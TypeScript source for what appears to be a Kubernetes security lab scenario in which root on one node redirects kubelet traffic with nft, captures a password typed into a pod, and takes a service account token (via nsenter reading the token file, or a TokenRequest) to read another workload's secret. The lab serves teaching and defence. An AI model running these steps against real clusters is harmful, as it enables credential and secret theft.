import { Attacker } from '../../attacker/attacker';
import { onTheMachine } from '../../attacker/position';
import type { KubeClient } from '../../client/kube-client';
import { addresses, ports } from '../addresses';
import { randomCanaries } from '../canaries';
import type { Cluster } from '../cluster';
import { createObjects } from '../create-workloads';
import type { ServiceAccountSpec } from '../lab-credentials';
import { rootOn } from '../places';
import type { Stage } from '../scenarios/stage';
import { clientOn } from './client-on';
import { playOf } from './play';
import { readSecret, runPodWithSecret } from './secret-of-pod';

const NODE = 'node-2';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const ACCOUNTS = '/api/v1/namespaces/default/serviceaccounts';

/** One of those rights that are given for a day and stay. */
const agent: ServiceAccountSpec = {
  namespace: 'default',
  name: 'agent',
  rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list'] }],
};

export const rootOnANode = playOf({
  steps: [
    'admin: kubectl create secret generic db … && kubectl apply -f db.yaml',
    'admin: kubectl apply -f agent.yaml',
    'root: nft add rule … ip daddr 10.0.0.12 tcp dport 10250 redirect',
    "admin: echo PASSWORD | kubectl exec -i web-2 -- sh -c 'cat > /run/password'",
    "admin: echo PASSWORD | kubectl exec -i web -- sh -c 'cat > /run/password'",
    'root: kubectl --kubeconfig kubelet.conf get secret db',
    'root: nsenter -t $(pgrep -f agent) -m cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'root: kubectl --token=… get secret db',
  ],
  options: {
    automountServiceAccountToken: { about: 'of pod agent', type: 'boolean' },
  },
  async play(stage, { options }) {
    const cluster = await stage.cluster();
    const { signal } = stage;
    const secret = await runPodWithSecret(stage, cluster, 'db', 'node-1');
    const uid = await runAgent(stage, cluster, options.automountServiceAccountToken);
    await typeIntoPods(stage, cluster);

    const root = cluster.nodes[NODE];
    await using node = clientOn(root, cluster, { clientCertificate: cluster.pki.kubeletClients[NODE] });
    const asNode = await readSecret(node, secret.name, signal);
    if (secret.isIn(asNode.text)) throw new Error('the Node authorizer let node-2 read what is not its own');
    await stage.refused('root', `kubectl --kubeconfig kubelet.conf get secret ${secret.name}`, asNode.text);

    const token = (await tokenInPod(stage, cluster)) ?? (await tokenForPod(stage, node, uid));
    if (token === null) return;
    await using thief = clientOn(root, cluster, { token });
    const read = await readSecret(thief, secret.name, signal);
    const get = `kubectl --token=… get secret ${secret.name}`;
    if (secret.isIn(read.text))
      await stage.gained(
        'root',
        get,
        read.text,
        'by the token of a pod that never needed one, the secrets of others',
      );
    else await stage.refused('root', get, read.text);
  },
});

/** Returns the pod's uid. */
async function runAgent(stage: Stage, cluster: Cluster, automount: boolean): Promise<string> {
  await cluster.credentials.token(agent);
  const object = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'agent', namespace: 'default' },
    spec: {
      nodeName: NODE,
      serviceAccountName: agent.name,
      automountServiceAccountToken: automount,
      containers: [{ name: 'agent', image: 'midplane/shell', stdin: true }],
    },
  };
  await createObjects(cluster.admin, [{ path: '/api/v1/namespaces/default/pods', object }]);
  await cluster.whenRunning(NODE, 'default', 'agent');
  await stage.did(
    'admin',
    'kubectl apply -f agent.yaml',
    `pod/agent runs on ${NODE}; its account may read secrets, and nobody remembers why`,
  );
  const answer = await cluster.admin.request('GET', '/api/v1/namespaces/default/pods/agent');
  return (answer.json() as { metadata: { uid: string } }).metadata.uid;
}

/** With the node's own key: what is typed into its pods is heard, and what is typed into others is not. */
async function typeIntoPods(stage: Stage, cluster: Cluster): Promise<void> {
  const { up: password, forged, tampered } = randomCanaries(stage.random);
  const { admin, nodes, kubeletServing } = cluster;
  const attack = await new Attacker({
    host: rootOn(nodes[NODE]),
    random: stage.random.for('attacker'),
  }).attack({
    technique: 'stolen',
    targets: [{ address: addresses.node2, port: ports.kubelet }],
    position: onTheMachine(NODE, { chains: ['prerouting'] }),
    present: kubeletServing[NODE],
    mode: 'impersonate',
    forged,
    tampered,
  });
  stage.closeLater({ close: () => attack.withdraw() });
  await stage.did(
    'root',
    `nft add rule … ip daddr ${addresses.node2} tcp dport ${ports.kubelet} redirect`,
    'its own process answers for the kubelet, with /var/lib/kubelet/pki/kubelet-server-current.pem',
  );
  const type = async (pod: string): Promise<boolean> => {
    const command = ['sh', '-c', 'cat > /run/password'];
    const stdin = Buffer.from(`${password}\n`);
    await admin.exec({ namespace: 'default', pod, command, stdin, signal: stage.signal });
    return attack.loot.requests.some(
      ({ path, stdin: typed }) => path.includes(`/${pod}/`) && typed.includes(password),
    );
  };
  const typed = (pod: string): string =>
    `echo ${password} | kubectl exec -i ${pod} -- sh -c 'cat > /run/password'`;
  if (!(await type('web-2'))) throw new Error('root on node-2 did not hear what was typed into its own pod');
  await stage.did(
    'admin',
    typed('web-2'),
    `at root on ${NODE}: ${password}; the apiserver verified the node’s key, and it is the node’s`,
  );
  if (await type('web')) throw new Error('root on node-2 heard what was typed into a pod of node-1');
  await stage.did('admin', typed('web'), 'root on node-2 sees no connection of it: it ends on node-1');
}

async function tokenInPod(stage: Stage, cluster: Cluster): Promise<string | null> {
  const container = cluster.container({ namespace: 'default', pod: 'agent', container: 'agent' });
  const { outcome, stdout, stderr } = await container.run(['cat', TOKEN], stage.signal);
  const enter = `nsenter -t $(pgrep -f agent) -m cat ${TOKEN}`;
  if (outcome.kind === 'exited' && outcome.code === 0) {
    const token = stdout.toString('utf8').trim();
    await stage.did('root', enter, `${token.slice(0, 24)}…`);
    return token;
  }
  await stage.refused('root', enter, stderr.toString('utf8').trim());
  return null;
}

/** What a kubelet may ask for on behalf of its pods. */
async function tokenForPod(stage: Stage, node: KubeClient, uid: string): Promise<string | null> {
  const body = {
    apiVersion: 'authentication.k8s.io/v1',
    kind: 'TokenRequest',
    spec: { boundObjectRef: { apiVersion: 'v1', kind: 'Pod', name: 'agent', uid } },
  };
  const { signal } = stage;
  const answer = await node.request('POST', `${ACCOUNTS}/agent/token`, { body, signal });
  const ask = `kubectl --kubeconfig kubelet.conf create token agent --bound-object-kind=Pod --bound-object-name=agent`;
  const token = (answer.json() as { status?: { token?: string } } | null)?.status?.token;
  if (answer.ok && token !== undefined) {
    await stage.did('root', ask, `${token.slice(0, 24)}…`);
    return token;
  }
  await stage.refused('root', ask, answer.words);
  return null;
}
